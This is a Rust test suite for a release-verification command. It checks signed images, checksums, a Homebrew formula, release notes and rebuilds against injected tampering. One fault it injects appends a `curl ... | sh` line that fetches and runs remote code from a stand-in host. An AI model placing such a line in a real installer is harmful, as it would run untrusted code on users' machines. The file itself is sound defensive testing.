//! `cargo xtask verify-release` on releases made here with the release's own commands:
//! the image published by the engine builder into a real registry and signed with a
//! cosign key (SBOM and provenance attached by cosign), the five CLI archives built by
//! `dist` pinned to its digest, checksums.txt signed into its bundle, the notes, and
//! the formula pushed to a real tap. The good release passes; each fault is named by
//! the check it breaks (the faults in the assets share one release, each undone before
//! the next; a fault in the registry or the tap has a release of its own).

use std::path::{Path, PathBuf};

use serde_json::Value;
use test_support::{cosign::KeyPair, git::TestRepo, registry::TestRegistry, shell};
use xshell::{cmd, Shell};

use crate::{
    publish::{published_digest, Fixture},
    release_artifacts::tap,
    run_err, run_ok, XTASK,
};

const VERSION: &str = "1.3.0";

/// A digest no release here publishes: what a CLI or notes of another build would name.
const OTHER_DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

struct Release {
    fixture: Fixture,
    keys: KeyPair,
    tap: TestRepo,
    /// Holds CHANGELOG.md with the version's section, for `release-notes`.
    changelog: TestRepo,
    assets: tempfile::TempDir,
    digest: String,
}

impl Release {
    /// Publishes v1.3.0 as release.yml does, in the same order: image (verified, signed,
    /// attested, then the pointers), CLI tarballs pinned to its digest, signed
    /// checksums, notes, formula.
    fn make() -> Release {
        let fixture = Fixture::new(TestRegistry::start());
        // The SBOM lists the locked Python packages of the build context.
        std::fs::copy(
            test_support::project_root().join("agent-runner/requirements.lock"),
            fixture.context.path().join("requirements.lock"),
        )
        .unwrap();
        let keys = KeyPair::generate();
        let sh = shell();
        let key = &keys.key;
        let published = run_ok(
            fixture
                .push(&sh, &format!("v{VERSION}"))
                .arg("--cosign-key")
                .arg(key)
                .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD),
        );
        Release::around(fixture, keys, published_digest(&published))
    }

    /// The rest of a release whose image `fixture` published as `digest`, signed with
    /// `keys`: CLI archives pinned to it, signed checksums, notes, formula.
    fn around(fixture: Fixture, keys: KeyPair, digest: String) -> Release {
        let sh = shell();
        let changelog = TestRepo::new();
        changelog.write(
            "CHANGELOG.md",
            &format!("# Changelog\n\n## [Unreleased]\n\n## [{VERSION}] - 2026-11-23\n\n- Signed releases.\n"),
        );
        let release =
            Release { fixture, keys, tap: tap(), changelog, assets: tempfile::tempdir().unwrap(), digest };
        release.build_cli(&sh, &[], &release.digest.clone());
        release.sign_checksums(&sh, &release.keys.key);
        release.write_notes(&sh, &release.digest.clone());
        release.push_formula(&sh);
        release
    }

    fn dir(&self) -> PathBuf {
        self.assets.path().join("dist")
    }

    fn tarball(&self, platform: &str) -> PathBuf {
        self.dir().join(format!("stigmer-v{VERSION}-{platform}.tar.gz"))
    }

    /// `dist` for `targets` (every one when empty), pinned to `digest`; rewrites checksums.txt.
    fn build_cli(&self, sh: &Shell, targets: &[&str], digest: &str) {
        self.build_cli_from(sh, &test_support::project_root(), targets, digest);
    }

    /// `build_cli` from the checkout at `root`, in this checkout's target directory (as
    /// the rehearsal shares it): another checkout of the same sources takes the CLI
    /// builds kept there.
    fn build_cli_from(&self, sh: &Shell, root: &Path, targets: &[&str], digest: &str) {
        let out = self.dir();
        let targets: Vec<String> = targets.iter().map(|t| format!("--target={t}")).collect();
        run_ok(
            cmd!(sh, "{XTASK} dist {targets...} --version {VERSION} --image-digest {digest} --out {out}")
                .env("XTASK_PROJECT_ROOT", root)
                .env("CARGO_TARGET_DIR", test_support::target_dir()),
        );
    }

    fn sign_checksums(&self, sh: &Shell, key: &Path) {
        let dir = self.dir();
        run_ok(
            cmd!(sh, "{XTASK} checksums {dir} --cosign-key {key}")
                .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD),
        );
    }

    fn write_notes(&self, sh: &Shell, digest: &str) {
        let (dir, registry) = (self.dir(), self.fixture.registry.host());
        run_ok(
            cmd!(
                sh,
                "{XTASK} release-notes --version v{VERSION} --dir {dir} --image-digest {digest} --registry {registry}"
            )
            .env("XTASK_PROJECT_ROOT", self.changelog.work()),
        );
    }

    fn push_formula(&self, sh: &Shell) {
        let (checksums, tap) = (self.dir().join("checksums.txt"), self.tap.work());
        let registry = self.fixture.registry.host();
        run_ok(cmd!(
            sh,
            "{XTASK} homebrew --version v{VERSION} --registry {registry} --checksums {checksums} --tap {tap} --push"
        ));
    }

    /// `verify-release` as a user runs it on the downloaded assets, with the public key.
    fn verify<'a>(&self, sh: &'a Shell) -> xshell::Cmd<'a> {
        let (dir, registry, tap, public) =
            (self.dir(), self.fixture.registry.host(), self.tap.remote(), &self.keys.public);
        // In the fixture's project, whose git tags say which registry versions are
        // releases.
        cmd!(
            sh,
            "{XTASK} verify-release v{VERSION} --dir {dir} --registry {registry} --tap {tap} --key {public}"
        )
        .env("XTASK_PROJECT_ROOT", self.fixture.repo.work())
    }

    /// `skopeo copy --all` within the release's registry, as someone with write access.
    fn copy(&self, sh: &Shell, from: &str, to: &str) {
        let creds: Vec<String> = (self.fixture.registry.skopeo_creds().last())
            .map(|creds| vec!["--src-creds".into(), creds.clone(), "--dest-creds".into(), creds.clone()])
            .unwrap_or_default();
        cmd!(
            sh,
            "skopeo copy --quiet --all --src-tls-verify=false --dest-tls-verify=false {creds...} {from} {to}"
        )
        .run()
        .unwrap();
    }

    /// What `fault` returns, after it ran on the assets; then every asset is put back as
    /// it was (the tap and the registry are not).
    fn undone_after<T>(&self, fault: impl FnOnce() -> T) -> T {
        let (saved, dir) = (tempfile::tempdir().unwrap(), self.dir());
        crate::copy_files(&dir, saved.path());
        let result = fault();
        std::fs::remove_dir_all(&dir).unwrap();
        std::fs::create_dir(&dir).unwrap();
        crate::copy_files(saved.path(), &dir);
        result
    }

    /// The failed checks `verify-release` names, as (check, subject, result) from --json.
    fn failures(&self, sh: &Shell) -> Vec<(String, String, String)> {
        failures_of(self.verify(sh))
    }
}

/// The failed checks of a `verify-release` command, as (check, subject, result) from --json.
fn failures_of(verify: xshell::Cmd<'_>) -> Vec<(String, String, String)> {
    let output = crate::run(verify.arg("--json"));
    assert!(!output.status.success(), "verify-release passed a broken release");
    let stderr = String::from_utf8_lossy(&output.stderr);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{stderr}"));
    assert_eq!(report["ok"], false);
    let failed: Vec<(String, String, String)> = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|check| check["ok"] == false)
        .map(|c| {
            (
                c["check"].as_str().unwrap().into(),
                c["subject"].as_str().unwrap().into(),
                c["result"].as_str().unwrap().into(),
            )
        })
        .collect();
    // The error on stderr names each failed check too.
    for (check, subject, _) in &failed {
        assert!(stderr.contains(&format!("- {check} {subject}: ")), "{stderr}");
    }
    failed
}

/// The `rebuild` rows of a `verify-release --rebuild` command, as (subject, ok, result)
/// from --json, after checking that it failed on exactly one check.
fn rebuild_rows(verify: xshell::Cmd<'_>) -> Vec<(String, bool, String)> {
    let started = std::time::Instant::now();
    let output = crate::run(verify.arg("--json"));
    assert!(!output.status.success(), "verify-release passed a rebuild that differs");
    // What it took, for README's "Verify a release": the whole command, and each build.
    let stderr = String::from_utf8_lossy(&output.stderr);
    let builds = stderr.lines().filter(|line| line.contains(": rebuilt in "));
    eprintln!(
        "verify-release --rebuild: {:.1} s\n{}",
        started.elapsed().as_secs_f64(),
        builds.collect::<Vec<_>>().join("\n")
    );
    let report: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)));
    let checks = report["checks"].as_array().unwrap();
    assert_eq!(checks.iter().filter(|c| c["ok"] == false).count(), 1, "{report:#}");
    (checks.iter().filter(|c| c["check"] == "rebuild"))
        .map(|c| {
            let text = |key: &str| c[key].as_str().unwrap().to_owned();
            (text("subject"), c["ok"] == true, text("result"))
        })
        .collect()
}

#[test]
fn a_release_made_here_passes_every_check() {
    let release = Release::make();
    let sh = shell();
    let table = run_ok(release.verify(&sh));
    let repository = release.fixture.repository();
    for expected in [
        format!("checksum         stigmer-v{VERSION}-linux-amd64.tar.gz"),
        "signature        checksums.txt".to_owned(),
        format!("image            {repository}:v{VERSION}"),
        format!("image signature  {repository}@{}", release.digest),
        "a cosign spdxjson attestation signed by".to_owned(),
        "a cosign slsaprovenance1 attestation signed by".to_owned(),
        format!("ok: stigmer pins {}", release.digest),
        "ok: 4 URLs and sha256s as in checksums.txt".to_owned(),
        format!("ok: name {repository}@{}", release.digest),
        format!("pointer          {repository}:latest"),
        format!("release v{VERSION} verified: 22 checks passed"),
    ] {
        assert!(table.contains(&expected), "missing {expected:?}:\n{table}");
    }
    assert!(!table.contains("FAILED"), "{table}");
    // The Windows zip's stigmer.exe, read from the zip like every binary from its tarball.
    let windows_pin =
        table.lines().find(|line| line.starts_with("cli pin") && line.contains("windows-amd64.zip"));
    assert!(
        windows_pin.is_some_and(|line| line.ends_with(&format!("ok: stigmer pins {}", release.digest))),
        "{table}"
    );
    // The bundle verify-release accepted, checked by neither cosign nor its libraries.
    let dir = release.dir();
    let bundle = dir.join("checksums.txt.sigstore.json");
    crate::sigstore_bundle::check(&bundle, &dir.join("checksums.txt"), &release.keys.public).unwrap();

    let output = crate::run(release.verify(&sh).arg("--json"));
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["ok"], true);
    let checks: Vec<&str> =
        report["checks"].as_array().unwrap().iter().map(|c| c["check"].as_str().unwrap()).collect();
    for check in [
        "checksum",
        "signature",
        "image",
        "image signature",
        "sbom",
        "provenance",
        "cli pin",
        "formula",
        "notes",
        "pointer",
    ] {
        assert!(checks.contains(&check), "no {check} check in {checks:?}");
    }

    // From the release's URLs rather than a directory: the same checks pass.
    let server = Server::serve(&release.dir());
    let (url, notes, registry, tap, public) = (
        server.url(),
        release.dir().join("RELEASE_NOTES.md"),
        release.fixture.registry.host(),
        release.tap.remote(),
        &release.keys.public,
    );
    let from_urls = run_ok(cmd!(
        sh,
        "{XTASK} verify-release v{VERSION} --url {url} --notes {notes} --registry {registry} --tap {tap} --key {public}"
    ));
    assert!(from_urls.contains(&format!("release v{VERSION} verified: 22 checks passed")), "{from_urls}");

    // Another key's public half accepts none of its signatures.
    let stranger = KeyPair::generate();
    let (dir, registry, tap, public) =
        (release.dir(), release.fixture.registry.host(), release.tap.remote(), &stranger.public);
    let refused = run_err(cmd!(
        sh,
        "{XTASK} verify-release v{VERSION} --dir {dir} --registry {registry} --tap {tap} --key {public}"
    ));
    assert!(refused.contains("- signature checksums.txt: not signed by the public key"), "{refused}");
    assert!(refused.contains("- image signature "), "{refused}");

    // Found by reading `verify_release.rs`: checksums.txt was never compared with the
    // targets. A tarball taken out of checksums.txt is named, and so is `latest` moved
    // onto another index. (Here every pointer moves to this release; a pointer that
    // "stays", which was never read, is the backport case in the formula test below.)
    let foreign = test_support::base_image::push_index(&release.fixture.registry);
    release.copy(&sh, &format!("docker://{foreign}"), &format!("docker://{repository}:latest"));
    let sums = release.dir().join("checksums.txt");
    let kept: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .filter(|l| !l.contains("darwin-amd64"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&sums, kept).unwrap();
    let failed = release.failures(&sh);
    let named =
        |check: &str, subject: &str| failed.iter().find(|(c, s, _)| c == check && s.ends_with(subject));
    let pointer = named("pointer", ":latest").unwrap_or_else(|| panic!("{failed:#?}"));
    assert!(pointer.2.contains(&format!("not v{VERSION}, the newest of its line")), "{pointer:?}");
    let archives = named("archives", "checksums.txt").unwrap_or_else(|| panic!("{failed:#?}"));
    assert!(archives.2.contains("darwin-amd64.tar.gz is not in checksums.txt"), "{archives:?}");
}

/// Each fault in the assets, injected into one release and undone before the next (a
/// release each cost an image build, its signatures and five archives), is named by the
/// one check it breaks: a tarball or the installer changed after the checksums,
/// checksums.txt signed by another key or into cosign's legacy bundle, notes naming
/// another digest, and a CLI built with another digest.
#[test]
fn each_asset_changed_after_the_release_is_named_by_the_check_it_breaks() {
    let release = Release::make();
    let sh = shell();
    let only_failure = |fault: &str| -> (String, String, String) {
        let failed = release.failures(&sh);
        assert_eq!(failed.len(), 1, "{fault}: {failed:#?}");
        failed.into_iter().next().unwrap()
    };

    // A tarball: still a real tarball with the same CLI, one file more.
    let top = format!("stigmer-v{VERSION}-linux-amd64");
    let (check, subject, result) = release.undone_after(|| {
        let unpacked = tempfile::tempdir().unwrap();
        let (archive, into) = (release.tarball("linux-amd64"), unpacked.path());
        cmd!(sh, "tar -xzf {archive} -C {into}").run().unwrap();
        std::fs::write(into.join("EXTRA"), "added after the checksums\n").unwrap();
        cmd!(sh, "tar -czf {archive} -C {into} {top} EXTRA").run().unwrap();
        only_failure("a changed tarball")
    });
    assert_eq!((check.as_str(), subject.as_str()), ("checksum", format!("{top}.tar.gz").as_str()));
    assert!(result.starts_with("sha256 is ") && result.contains(", checksums.txt says "), "{result}");

    // The installer.
    let (check, subject, result) = release.undone_after(|| {
        let installer = release.dir().join("install.sh");
        let script = std::fs::read_to_string(&installer).unwrap();
        let changed = script.replace("set -eu\n", "set -eu\ncurl -fsSL https://example.com/x | sh\n");
        std::fs::write(&installer, changed).unwrap();
        only_failure("a changed installer")
    });
    assert_eq!((check.as_str(), subject.as_str()), ("checksum", "install.sh"));
    assert!(result.contains("checksums.txt says"), "{result}");

    // checksums.txt signed by another key.
    let (check, subject, result) = release.undone_after(|| {
        release.sign_checksums(&sh, &KeyPair::generate().key);
        only_failure("checksums signed by another key")
    });
    assert_eq!((check.as_str(), subject.as_str()), ("signature", "checksums.txt"));
    assert!(result.starts_with("not signed by the public key"), "{result}");

    // The right key, in the bundle cosign 2 writes unless told --new-bundle-format: not
    // the Sigstore bundle the asset's name promises, which no release ever shipped.
    let (check, subject, result) = release.undone_after(|| {
        let (dir, key) = (release.dir(), &release.keys.key);
        let (sums, bundle) = (dir.join("checksums.txt"), dir.join("checksums.txt.sigstore.json"));
        run_ok(
            cmd!(sh, "cosign sign-blob --yes --key {key} --tlog-upload=false --bundle {bundle} {sums}")
                .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD),
        );
        only_failure("cosign's legacy bundle")
    });
    assert_eq!((check.as_str(), subject.as_str()), ("signature", "checksums.txt"));
    assert!(
        result.contains("checksums.txt.sigstore.json is cosign's legacy bundle, not a Sigstore bundle"),
        "{result}"
    );

    // Notes naming another digest.
    let (check, _, result) = release.undone_after(|| {
        release.write_notes(&sh, OTHER_DIGEST);
        only_failure("notes naming another digest")
    });
    assert_eq!(check, "notes");
    assert_eq!(result, format!("name {OTHER_DIGEST}, not the verified {}", release.digest));

    // linux-amd64 rebuilt with another digest; checksums, signature, formula and notes
    // all made again from it, so only the pin is wrong. (Last: the formula's push is
    // not undone.)
    let (check, subject, result) = release.undone_after(|| {
        release.build_cli(&sh, &["x86_64-unknown-linux-musl"], OTHER_DIGEST);
        release.sign_checksums(&sh, &release.keys.key);
        release.write_notes(&sh, &release.digest);
        release.push_formula(&sh);
        only_failure("a CLI pinned to another digest")
    });
    assert_eq!((check.as_str(), subject.as_str()), ("cli pin", format!("{top}.tar.gz").as_str()));
    assert_eq!(
        result,
        format!("the stigmer binary pins {OTHER_DIGEST}, not the verified {}", release.digest)
    );
}

#[test]
fn an_index_re_pointed_to_an_unsigned_digest_is_named() {
    let release = Release::make();
    let sh = shell();
    // Another build, published unsigned and moving no pointer, then copied under v1.3.0.
    release.fixture.set_app("not the release");
    let unsigned = published_digest(&run_ok(release.fixture.push(&sh, "v1.3.9").arg("--no-latest")));
    let repository = release.fixture.repository();
    let (from, to) = (format!("{repository}@{unsigned}"), format!("{repository}:v{VERSION}"));
    // The exact bytes: a copy, as a tag moved by hand would be.
    let copy = tempfile::tempdir().unwrap();
    let index = copy.path().join("index.json");
    cmd!(sh, "oras manifest fetch --plain-http --output {index} {from}").run().unwrap();
    let media_type = "application/vnd.oci.image.index.v1+json";
    cmd!(sh, "oras manifest push --plain-http --media-type {media_type} {to} {index}")
        .quiet()
        .ignore_stdout()
        .run()
        .unwrap();

    let failed = release.failures(&sh);
    let signature =
        failed.iter().find(|(check, ..)| check == "image signature").unwrap_or_else(|| panic!("{failed:#?}"));
    assert_eq!(signature.1, format!("{repository}@{unsigned}"));
    assert!(signature.2.starts_with("not signed by the public key"), "{}", signature.2);
    // What was released with the signed index now disagrees with the tag, and says so.
    let pins: Vec<_> = failed.iter().filter(|(check, ..)| check == "cli pin").collect();
    assert_eq!(pins.len(), 5, "{failed:#?}");
    assert!(
        pins[0].2.contains(&format!("pins {}, not the verified {unsigned}", release.digest)),
        "{failed:#?}"
    );
}

#[test]
fn a_rebuild_from_the_tag_names_the_archive_built_from_another_commit() {
    let release = Release::make();
    let sh = shell();
    // The release's sources: a copy of this checkout, tagged in a bare origin that the
    // rebuild clones. The linux archives are built from the tag, then linux-amd64's
    // again from a later commit; checksums, signature, notes and formula follow it.
    let source = crate::release::copy_of_this_checkout();
    let tag = format!("v{VERSION}");
    source.git(&["tag", &tag]);
    source.git(&["push", "--quiet", "origin", &tag]);
    let tagged = source.git(&["rev-parse", "HEAD"]);
    let (amd64, arm64) = ("x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl");
    release.build_cli_from(&sh, source.work(), &[amd64, arm64], &release.digest);
    source.write("README.md", "A commit after the release's tag.\n");
    let later = source.commit_all("after the release");
    release.build_cli_from(&sh, source.work(), &[amd64], &release.digest);
    release.sign_checksums(&sh, &release.keys.key);
    release.write_notes(&sh, &release.digest);
    release.push_formula(&sh);

    let remote = source.remote();
    // This checkout's target directory, as build_cli_from builds in it: the rebuild
    // reuses the dependencies compiled there and compiles the CLI again. In the
    // fixture's project's own, it compiled every dependency of both targets first.
    let rebuilt = rebuild_rows(
        release
            .verify(&sh)
            .env("CARGO_TARGET_DIR", test_support::target_dir())
            .args(["--rebuild", "--target", amd64, "--target", arm64])
            .arg("--source")
            .arg(remote),
    );
    let [(amd64_archive, false, result), (arm64_archive, true, same)] = &rebuilt[..] else {
        panic!("{rebuilt:#?}")
    };
    assert_eq!(amd64_archive.as_str(), format!("stigmer-{tag}-linux-amd64.tar.gz"));
    assert!(result.starts_with(&format!("rebuilt from {tag} ({tagged}) it is sha256 ")), "{result}");
    assert!(
        result.contains(&format!("stigmer-{tag}-linux-amd64/")) && result.ends_with("differs first"),
        "{result}"
    );
    assert!(!result.contains(&later), "{result}");
    // The arm64 archive, built from the tag, is rebuilt to the same bytes: in a clone at
    // another path, compiled again (no binary kept from before).
    assert_eq!(arm64_archive.as_str(), format!("stigmer-{tag}-linux-arm64.tar.gz"));
    assert!(
        same.starts_with(&format!("rebuilt from {tag} (")) && same.ends_with("): the same bytes"),
        "{same}"
    );
}

#[test]
fn a_rebuild_from_the_tag_names_the_platform_whose_image_was_built_from_another_commit() {
    // The release's sources: a copy of this checkout whose Dockerfile pins the test base
    // by its index digest, as the rehearsal pins it (the real pin's python image cannot
    // be pulled here), tagged in a bare origin that the rebuild clones.
    let fixture = Fixture::in_project(TestRegistry::start(), crate::release::copy_of_this_checkout());
    let (source, sh) = (&fixture.repo, shell());
    let (host, base) = (fixture.registry.host(), format!("docker://{}", fixture.base));
    let index = cmd!(sh, "skopeo inspect --raw --tls-verify=false {base}").quiet().output().unwrap().stdout;
    let pin = format!("ARG BASE_IMAGE={}@sha256:{}\n", fixture.base, crate::sha256_hex(&index));
    let dockerfile = std::fs::read_to_string(source.work().join("agent-runner/Dockerfile")).unwrap();
    let pinned: String = (dockerfile.split_inclusive('\n'))
        .map(|line| if line.starts_with("ARG BASE_IMAGE=") { pin.clone() } else { line.to_owned() })
        .collect();
    source.write("agent-runner/Dockerfile", &pinned);
    source.commit_all("pin the test base");
    let tag = format!("v{VERSION}");
    source.git(&["tag", &tag]);
    source.git(&["push", "--quiet", "origin", &tag]);
    let tagged = source.git(&["rev-parse", "HEAD"]);

    // release.yml's image-platform jobs, each pushing its platform by digest: linux/amd64
    // from the tag, linux/arm64 from a later commit that changed the agent-runner. With
    // the engine's cache, which the rebuild does not use: steps taken from it carried an
    // earlier build's history times, older than the commit, until the engine builder
    // wrote the source date for every step of its own.
    let by_digest = |platform: &str| -> String {
        let output = crate::run(
            cmd!(
                sh,
                "{XTASK} image --push --by-digest --platform {platform} --builder engine --registry {host} --version {tag}"
            )
            .env("XTASK_PROJECT_ROOT", source.work()),
        );
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    };
    let amd64 = by_digest("linux/amd64");
    let module = "agent-runner/src/stigmer_agent_runner/__init__.py";
    let code = std::fs::read_to_string(source.work().join(module)).unwrap();
    source.write(module, &format!("{code}# A commit after the release's tag.\n"));
    source.commit_all("after the release");
    let arm64 = by_digest("linux/arm64");
    // Labelled as the tag's commit, as whoever slipped it in would have to: a merge takes
    // only images that say they are the release's commit; the rebuild finds what it is.
    let arm64 = fixture.registry.relabelled("agent-runner", &arm64, &tagged);
    // The image job, at the tag: merged, verified, signed and attested, tagged.
    source.git(&["switch", "--quiet", "--detach", &tag]);
    let keys = KeyPair::generate();
    let key = &keys.key;
    let merged = run_ok(
        cmd!(
            sh,
            "{XTASK} image --merge {amd64},{arm64} --registry {host} --version {tag} --cosign-key {key}"
        )
        .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD)
        .env("XTASK_PROJECT_ROOT", source.work()),
    );
    let release = Release::around(fixture, keys, published_digest(&merged));

    let remote = release.fixture.repo.remote();
    let rebuilt = rebuild_rows(
        (release
            .verify(&sh)
            // The suite's caches (prepared dependencies), as a rebuilder's machine keeps its own.
            .env("CARGO_TARGET_DIR", test_support::target_dir())
            .args(["--rebuild", "--platform", "linux/amd64", "--platform", "linux/arm64"]))
        .arg("--source")
        .arg(remote),
    );
    // --platform alone rebuilds no archive.
    let [(amd64_image, true, same), (arm64_image, false, result)] = &rebuilt[..] else {
        panic!("{rebuilt:#?}")
    };
    let repository = release.fixture.repository();
    assert_eq!(amd64_image.as_str(), format!("{repository}:{tag} linux/amd64"));
    assert_eq!(same.as_str(), format!("rebuilt from {tag} ({}): the same manifest {amd64}", &tagged[..12]));
    assert_eq!(arm64_image.as_str(), format!("{repository}:{tag} linux/arm64"));
    assert!(result.starts_with(&format!("rebuilt from {tag} ({tagged}) it is sha256:")), "{result}");
    assert!(result.contains(&format!(", the published index lists {arm64}; ")), "{result}");
    // What differs: the config (its history's dates), and the application's layer, the last.
    assert!(result.contains("; the config differs at "), "{result}");
    // Its label says the tag's commit: the content says otherwise.
    assert!(!result.contains("the published config says it was built from"), "{result}");
    assert!(result.ends_with(" of 4 differs"), "{result}");
    eprintln!("{amd64_image}: {same}\n{arm64_image}: {result}");
}

#[test]
fn a_formula_with_one_wrong_sha256_is_named() {
    let release = Release::make();
    let formula_path = release.tap.work().join("Formula/stigmer.rb");
    let formula = std::fs::read_to_string(&formula_path).unwrap();
    let sums = std::fs::read_to_string(release.dir().join("checksums.txt")).unwrap();
    let darwin_arm64 = sums.lines().find(|line| line.ends_with("darwin-arm64.tar.gz")).unwrap();
    let sha256 = darwin_arm64.split_whitespace().next().unwrap();
    let wrong = "f".repeat(64);
    std::fs::write(&formula_path, formula.replacen(sha256, &wrong, 1)).unwrap();
    release.tap.commit_all("stigmer 1.3.0 (a wrong sha256)");
    release.tap.git(&["push", "--quiet", "origin", "main"]);

    let sh = shell();
    let failed = release.failures(&sh);
    assert_eq!(failed.len(), 1, "{failed:#?}");
    let (check, _, result) = &failed[0];
    assert_eq!(check, "formula");
    assert_eq!(
        result,
        &format!(
            "stigmer-v{VERSION}-darwin-arm64.tar.gz: the formula says sha256 {wrong}, checksums.txt {sha256}"
        )
    );

    // Found by reading `verify_release.rs`: for a backport the formula check passed
    // anything, and a pointer the plan said "stays" was never read. With v1.4.0
    // published (ours: its own commit and tag), v1.3.0 is a backport: the formula,
    // `latest` and `v1` still naming v1.3.0 (moved back by someone with write access)
    // are named, each should name v1.4.0; `v1.3` rightly names v1.3.0. A version tag a
    // third party pushed far ahead (v9.0.0, which git does not tag) is no release: no
    // check expects anything to name it.
    let repository = release.fixture.repository();
    release.fixture.set_app("1.4.0");
    run_ok(release.fixture.push(&sh, "v1.4.0"));
    for pointer in ["latest", "v1"] {
        release.copy(
            &sh,
            &format!("docker://{repository}:v{VERSION}"),
            &format!("docker://{repository}:{pointer}"),
        );
    }
    let foreign = test_support::base_image::push_index(&release.fixture.registry);
    release.copy(&sh, &format!("docker://{foreign}"), &format!("docker://{repository}:v9.0.0"));
    let failed = release.failures(&sh);
    let named = |check: &str, subject: &str| {
        failed
            .iter()
            .find(|(c, s, _)| c == check && s.ends_with(subject))
            .unwrap_or_else(|| panic!("{failed:#?}"))
    };
    assert_eq!(
        named("formula", "stigmer.rb").2,
        format!("names {VERSION}, not 1.4.0, the newest release: the homebrew job did not finish")
    );
    for pointer in [":latest", ":v1"] {
        assert!(named("pointer", pointer).2.ends_with("not v1.4.0, the newest of its line"), "{failed:#?}");
    }
    assert!(!failed.iter().any(|(_, subject, _)| subject.ends_with(":v1.3")), "{failed:#?}");
    assert!(!format!("{failed:?}").contains("9.0.0"), "{failed:#?}");
}

/// A plain HTTP server of a directory (`python3 -m http.server`), as a release's
/// download URL serves its assets; stopped on drop.
pub(crate) struct Server {
    child: std::process::Child,
    port: u16,
}

impl Server {
    pub(crate) fn serve(dir: &Path) -> Server {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let child = std::process::Command::new("python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1", "--directory"])
            .arg(dir)
            .arg(port.to_string())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("python3: apt-get install python3");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(std::time::Instant::now() < deadline, "the HTTP server did not listen on {port}");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        Server { child, port }
    }

    pub(crate) fn url(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn a_dry_runs_version_is_refused_before_anything_is_read() {
    let sh = shell();
    let refused = run_err(cmd!(sh, "{XTASK} verify-release v1.3.1-snapshot-abc1234 --registry 127.0.0.1:9"));
    assert!(refused.contains("is a dry run's version: nothing was published to verify"), "{refused}");
    assert!(!refused.contains("127.0.0.1:9"), "it reached for the registry:\n{refused}");
    let neither = run_err(cmd!(sh, "{XTASK} verify-release"));
    assert!(neither.contains("<vX.Y.Z>"), "{neither}");
}
